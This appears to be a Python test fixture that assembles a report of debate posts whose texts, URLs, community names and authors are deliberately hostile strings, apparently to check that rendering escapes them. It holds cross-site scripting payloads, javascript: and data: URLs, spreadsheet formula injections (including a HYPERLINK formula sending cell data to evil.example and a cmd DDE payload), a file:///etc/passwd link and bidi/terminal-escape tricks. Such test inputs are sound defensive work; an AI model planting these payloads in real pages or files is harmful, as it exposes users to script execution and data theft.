"""A corpus of posts that would like to be more than text."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from typing import TYPE_CHECKING

from debate import FRAMEWORKS, META, debate, opinion, report

if TYPE_CHECKING:
    from reports import Report

TEXTS = (
    "<script>window.hacked = 1; alert(1)</script> is how this post would like to begin, and </script> to end",
    "</title></style></textarea><!-- <img src=x onerror=alert(2)><svg onload=alert(3)> and then some words follow",
    "</script><script>alert(4)</script> in a data block, ]]> in a section, {{ 7 * 7 }} {% raw %} in a template of ours",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\") would be run as a formula by spreadsheets all over the world",
    "+1+cmd|' /C calc'!A0 is another formula of that kind, with a pipe | or two || within, and @SUM(1+1)*2 behind it",
    "[a link](javascript:alert(5)) ![a picture](https://evil.example/x.png) <https://evil.example> www.evil.example",
    "| a | table | row |\n|---|---|---|\n| of | its | own |\n\n# A heading\n- a list\n> a quote\n```\nand code\n```",
    "\u202egnp.exe\u202c turns around \u2066inside\u2069 and hides\u200b\u00ad things\x00\x1b[31m that terminals obey",
    "🔥" * 10_000 + " is what ten thousand emoji look like, and here is a word or two to be quoted with them",
    "👩\u200d💻 z" + "\u0301" * 400 + "algo and " + "a" * 3_000 + " " + "wide " * 40 + " are strange",
    "**bold** _it_ `code` ~~gone~~ $x$ :smile: &amp; &lt;b&gt; \\| [^1] <details open> <a href=//evil.example>x</a>",
)  # fmt: skip
URLS = (
    "javascript:alert(6)",
    "JaVaScRiPt://e.org/%0aalert(7)",
    "data:text/html,<script>alert(8)</script>",
    'https://e.org/a"onmouseover="alert(9)',
    "https://e.org/a)b <script>alert(10)</script>|'",
    "https://github.com@evil.example/",
    "//evil.example/",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\x01javascript:alert(11)",
    "https://e.org/ok",
)
NAMES = ("=1+1", "-2+3", "@SUM(1)", "a|b", "<b>b</b>", "\u202eevil", "</script><script>alert(12)</script>")
SAFE_HOST = "https://e.org/"


def hostile_report() -> Report:
    """The report of posts whose text, address, community and author are hostile, under a hostile title."""
    camps = ("pro-pytorch", "pro-tensorflow", "pro-jax")
    posts = [
        *debate(90),
        *(
            opinion(
                1000 + key,
                camp=camps[key % 3],
                community=f"{NAMES[key % 14 % len(NAMES)]} {TEXTS[key % 14 % len(TEXTS)]}",
                url=URLS[key % len(URLS)],
                author=f"{TEXTS[key % len(TEXTS)]} {key}",
            )
            for key in range(7 * len(TEXTS))
        ),
    ]
    texts = {key: f"word{key} is said here, by debate number {key}, of nothing much" for key in range(90)}
    texts |= {1000 + key: TEXTS[key % len(TEXTS)] for key in range(7 * len(TEXTS))}
    meta = replace(META, command=f"stancemap ``` {TEXTS[0]}", label_set=replace(META.label_set, name=f"`{TEXTS[1]}"))
    events = ((date(2023, 1, 14), TEXTS[0]),)
    return report(posts, texts, targets=FRAMEWORKS, meta=meta, title=TEXTS[2], events=events, quotes=30)
